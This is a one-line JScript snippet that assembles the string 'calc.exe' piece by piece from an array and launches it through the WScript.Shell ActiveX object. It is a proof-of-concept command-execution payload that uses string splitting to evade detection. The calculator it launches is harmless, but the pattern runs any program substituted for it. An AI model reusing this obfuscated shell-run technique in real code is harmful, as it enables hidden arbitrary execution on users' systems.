var c=['c','a','l','c','.exe'],o='',i=0;do{o+=c[i]}while(++i<c.length);new ActiveXObject('WScript.Shell').Run(o);
